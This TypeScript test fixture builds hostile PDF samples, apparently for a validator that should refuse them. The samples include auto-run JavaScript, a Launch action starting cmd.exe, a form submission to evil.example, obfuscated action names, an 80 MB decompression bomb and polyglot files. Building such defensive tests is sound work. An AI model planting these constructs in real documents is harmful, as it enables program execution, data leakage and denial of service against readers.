import { deflateSync } from 'node:zlib'
import { harmless, refused, script, text, type HostileFile } from './hostile-file.ts'

/** A PDF with these objects and entries of its catalog. */
export function pdf(objects: string | Buffer = '', catalog = ''): Buffer {
  const head = `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n`
  const end = '\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'
  return Buffer.concat([Buffer.from(head, 'latin1'), Buffer.from(objects), Buffer.from(end, 'latin1')])
}

const packed = (content: Buffer, dictionary: string): Buffer =>
  Buffer.concat([
    text(`3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length ${content.length} ${dictionary} >>\nstream\n`),
    content,
    text('\nendstream\nendobj\n'),
  ])

/** PDFs with programs, damaged ones, and PDFs under other names. */
export function hostileDocuments(): HostileFile[] {
  const action = '<< /S /JavaScript /JS (app.alert(1)) >>'
  const whole = pdf()
  const active: [string, Buffer][] = [
    ['that runs a script when it opens', pdf('', `/OpenAction ${action}`)],
    ['with a script of a page', pdf(`3 0 obj\n<< /AA << /O ${action} >> >>\nendobj\n`)],
    ['with named scripts', pdf('', '/Names << /JavaScript 4 0 R >>')],
    ['with a script under a coded name', pdf('', '/OpenAction << /S /J#61vaScr#69pt /JS (x) >>')],
    ['that starts a program', pdf('', '/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['with a file inside', pdf('3 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n')],
    ['with files inside', pdf('', '/Names << /EmbeddedFiles 4 0 R >>')],
    ['with media', pdf('3 0 obj\n<< /Subtype /RichMedia >>\nendobj\n')],
    ['that sends a form', pdf('3 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n')],
    ['that imports data', pdf('3 0 obj\n<< /S /ImportData >>\nendobj\n')],
    ['that goes to a file inside', pdf('3 0 obj\n<< /S /GoToE >>\nendobj\n')],
    ['with a form of XML', pdf('', '/AcroForm << /XFA [4 0 R] >>')],
    ['that is encrypted', pdf('', '/Encrypt 5 0 R')],
    ['with a packed script', pdf(packed(deflateSync(`1 0 ${action}`), '/Filter /FlateDecode'))],
    ['with a script in plain objects', pdf(packed(text(`1 0 ${action}`), ''))],
    ['packed in hexadecimal', pdf(packed(text('3c3c3e3e>'), '/Filter /ASCIIHexDecode'))],
    ['packed twice', pdf(packed(deflateSync(deflateSync('x')), '/Filter [/FlateDecode /FlateDecode]'))],
    ['packed with a predictor', pdf(packed(deflateSync('x'), '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>'))],
    ['with a comment in a dictionary', pdf(packed(deflateSync('x'), '%\n/Filter /FlateDecode'))],
    ['with objects that inflate', pdf(packed(deflateSync(Buffer.alloc(80_000_000)), '/Filter /FlateDecode'))],
    ['with broken objects', pdf(packed(text('no zlib'), '/Filter /FlateDecode'))],
    ['of its head alone', text('%PDF-1.7')],
    ['with a zip behind it', Buffer.concat([whole, text('PK\u0003\u0004'), Buffer.alloc(4_000, 1)])],
    ['with a page behind it', Buffer.concat([whole, text(script)])],
    ['behind a program', Buffer.concat([text('MZ'), whole])],
    ['behind a page', Buffer.concat([text('<html>'), whole])],
  ]
  return [
    ...active.map(([what, bytes]) => refused(`PDF ${what}`, 'a.pdf', bytes)),
    ...[0.2, 0.4, 0.6, 0.8].map((part) =>
      refused(`PDF cut at ${part}`, 'a.pdf', whole.subarray(0, Math.ceil(whole.length * part))),
    ),
    ...['html', 'exe', 'png', 'txt'].map((ending) => harmless(`PDF named .${ending}`, `a.${ending}`, whole)),
  ]
}
